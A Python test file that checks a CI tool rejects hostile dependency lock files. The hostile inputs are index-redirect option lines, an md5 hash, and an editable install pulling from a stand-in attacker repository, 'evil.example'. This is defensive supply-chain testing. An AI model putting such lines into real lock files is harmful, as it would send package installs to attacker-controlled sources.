"""Hostile locks against every place that hands a lock file to uv, for real: an option
line nobody allowed (an index redirect uv would obey) or a weak hash ends the command
with exit 3 naming file:line, before anything is installed."""

from __future__ import annotations

import sys
import tempfile
from pathlib import Path

import pytest

from tests.integration.test_wheelhouse import SMALL_LOCKS
from tests.support import Ran, run, tierci
from tierci.artifacts.verify import verify_wheel_imports
from tierci.errors import LockError
from tierci.pipeline import Status
from tierci.records import read_record

# Nothing listens there: uv, obeying it, fails with "Connection refused".
REDIRECT = "--index-url http://127.0.0.1:9/simple"
SIX = (SMALL_LOCKS / "six-1.17.txt").read_text(encoding="utf-8")
MD5 = "--hash=md5:" + "0" * 32
NOXFILE = """import nox

from tierci import noxlib

nox.options.default_venv_backend = "uv|virtualenv"


@nox.session
def unit(session):
    noxlib.run_tests(session, "unit")
"""


def flat(result: Ran) -> str:
    """The output with rich's line wrapping undone."""
    return " ".join(result.output.split())


def make_project(folder: Path, lock_text: str, *, table: str = "") -> Path:
    (folder / "requirements").mkdir(parents=True)
    (folder / "requirements" / "env.txt").write_text(lock_text, encoding="utf-8")
    (folder / "requirements" / "unit.txt").write_text(lock_text, encoding="utf-8")
    (folder / "noxfile.py").write_text(NOXFILE, encoding="utf-8")
    (folder / "pyproject.toml").write_text(
        '[project]\nname = "attacked"\nversion = "1"\n\n'
        f"[tool.tierci]\n{table}\n"
        '[tool.tierci.tiers.unit]\nlock = "requirements/unit.txt"\ninstall_project = false\n\n'
        '[tool.tierci.envs.worker]\nlock = "requirements/env.txt"\n',
        encoding="utf-8",
    )
    return folder


def ensure(project: Path) -> Ran:
    return tierci(project, "env", "ensure", "worker", TIERCI_ENV_DIR=str(project.parent / "envs"))


def test_uv_really_obeys_the_redirect_line(tmp_path: Path) -> None:
    """The attack is real: without tierci's check, uv goes where the lock says."""
    lock = tmp_path / "lock.txt"
    lock.write_text(f"{REDIRECT}\n{SIX}", encoding="utf-8")
    venv = tmp_path / "venv"
    assert run([sys.executable, "-m", "uv", "venv", "-q", str(venv)], tmp_path).returncode == 0
    install = [sys.executable, "-m", "uv", "pip", "install", "--python", str(venv / "bin/python")]
    obeyed = run([*install, "--no-cache", "--require-hashes", "-r", str(lock)], tmp_path)
    assert obeyed.returncode != 0, obeyed
    assert "127.0.0.1:9" in obeyed.output


def test_env_ensure_refuses_an_index_redirect_before_building(tmp_path: Path) -> None:
    project = make_project(tmp_path / "p", f"# compiled by hand\n{SIX}{REDIRECT}\n")
    result = ensure(project)
    assert result.returncode == 3, result
    lock = project / "requirements" / "env.txt"
    assert f"{lock}:6: '{REDIRECT}' is an option line" in flat(result)
    assert f'lock_options = ["{REDIRECT}"]' in flat(result)
    assert "Connection refused" not in result.output  # uv never read the file
    assert not (tmp_path / "envs").exists()  # no env, no half-built folder


def test_env_ensure_refuses_an_md5_hash(tmp_path: Path) -> None:
    project = make_project(tmp_path / "p", f"six==1.17.0 \\\n    {MD5}\n")
    result = ensure(project)
    assert result.returncode == 3, result
    lock = project / "requirements" / "env.txt"
    assert f"{lock}:1: six has a md5 hash" in flat(result)
    assert "only sha256, sha384, sha512 are accepted" in flat(result)
    assert not (tmp_path / "envs").exists()


def test_env_status_refuses_the_same_lock(tmp_path: Path) -> None:
    project = make_project(tmp_path / "p", f"{SIX}--find-links /tmp/wheels\n")
    result = tierci(project, "env", "status", "--json", TIERCI_ENV_DIR=str(tmp_path / "envs"))
    assert result.returncode == 3, result
    assert "env.txt:5: '--find-links /tmp/wheels' is an option line" in flat(result)
    assert not list((tmp_path / "envs").iterdir())  # the env folder, made empty, and no env


def test_an_allowed_option_line_reaches_uv(tmp_path: Path) -> None:
    """The same lines, allowed exactly in [tool.tierci], are uv's to obey."""
    redirected = make_project(
        tmp_path / "redirected", f"{REDIRECT}\n{SIX}", table=f'lock_options = ["{REDIRECT}"]\n'
    )
    obeyed = ensure(redirected)
    assert obeyed.returncode == 4, obeyed  # uv went to the allowed index, and nothing is there
    assert "127.0.0.1:9" in obeyed.output
    binary_only = make_project(
        tmp_path / "binary-only",
        f"--only-binary=:all:\n{SIX}",
        table='lock_options = ["--only-binary :all:"]\n',
    )
    built = ensure(binary_only)
    assert built.returncode == 0, built
    python = built.output.strip().splitlines()[-1] + "/bin/python"
    check = run([python, "-c", "import six"], tmp_path)
    assert check.returncode == 0, check


def test_a_nox_session_refuses_the_redirect_before_syncing(tmp_path: Path) -> None:
    project = make_project(tmp_path / "p", f"{SIX}--extra-index-url http://127.0.0.1:9/simple\n")
    result = run([sys.executable, "-m", "nox", "-s", "unit"], project)
    assert result.returncode == 3, result
    lock = project / "requirements" / "unit.txt"
    assert f"{lock}:5: '--extra-index-url http://127.0.0.1:9/simple' is an option line" in (
        flat(result)
    )
    venv = project / ".nox" / "unit"
    assert not (venv / ".tierci-sync.json").exists()
    assert not list(venv.glob("lib/python*/site-packages/six*"))
    # No test ran, so no report; the session's record says why it failed.
    assert not list((project / "build" / "junit").glob("*.xml"))
    record = read_record(project / "build" / "junit" / "unit.tier.json")
    assert (record.status, record.exit_code) == (Status.FAILED, 3)


def test_import_verification_refuses_a_dependency_lock_before_making_a_venv(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    lock = tmp_path / "unit.txt"
    lock.write_text(f"{SIX}-e git+https://evil.example/pkg.git#egg=pkg\n", encoding="utf-8")
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))  # where fresh_venv would make one
    with pytest.raises(LockError, match=r"unit\.txt:5: '-e git\+https://evil") as caught:
        verify_wheel_imports(
            tmp_path / "demo-1.0-py3-none-any.whl",
            package="demo",
            dependency_locks=[lock],
            allowed_options=["-e git+https://evil.example/pkg.git#egg=pkg"],
        )
    assert caught.value.return_code == 3
    assert not list(scratch.iterdir())
